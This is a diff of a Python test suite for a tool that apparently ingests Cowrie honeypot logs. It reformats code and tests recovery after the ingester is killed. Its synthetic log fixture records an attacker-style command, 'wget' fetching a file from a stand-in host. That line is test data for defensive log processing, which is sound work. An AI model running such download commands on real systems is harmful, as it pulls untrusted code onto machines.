@@ -34,7 +34,9 @@ def write_logs(folder: Path) -> Path:
         for index in range(SESSIONS):
             session, second = f"{index:012x}", number * 20_000 + index * 7
             lines.append(event("session.connect", session, second, dst_ip="10.0.0.1", dst_port=22))
-            lines.append(event("login.success", session, second + 1, username=f"u{index % 97}", password=f"p{index % 31}"))
+            lines.append(
+                event("login.success", session, second + 1, username=f"u{index % 97}", password=f"p{index % 31}")
+            )
             lines.append(event("command.input", session, second + 2, input=f"wget http://198.51.100.{index % 250}/x"))
             lines.append(event("session.closed", session, second + 3, duration_ms=index))
         content = b"\n".join(lines) + b"\n" + (b'{"eventid":"cowrie.session.clo' if number == 1 else b"")
@@ -81,12 +83,16 @@ def test_kill_and_rerun(turn: int, undisturbed: tuple[Path, Snapshot, float], tm
     store = tmp_path / "killed.db"
     for _ in range(chance.randint(1, 3)):
         with subprocess.Popen(
-            command(store, logs), env=environment(tmp_path), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
+            command(store, logs),
+            env=environment(tmp_path),
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
         ) as running:
             time.sleep(chance.uniform(0.05, seconds))
             running.send_signal(signal.SIGKILL)
     subprocess.run(command(store, logs), env=environment(tmp_path), stdout=subprocess.DEVNULL, check=True)
-    account = subprocess.run([str(NACRE), "--store", str(store), "account", "--recount", "--json"], capture_output=True)
+    recount = [str(NACRE), "--store", str(store), "account", "--recount", "--json"]
+    account = subprocess.run(recount, capture_output=True, check=False)
 
     assert expected == tables(store)
     assert (0, True) == (account.returncode, json.loads(account.stdout)["balanced"])
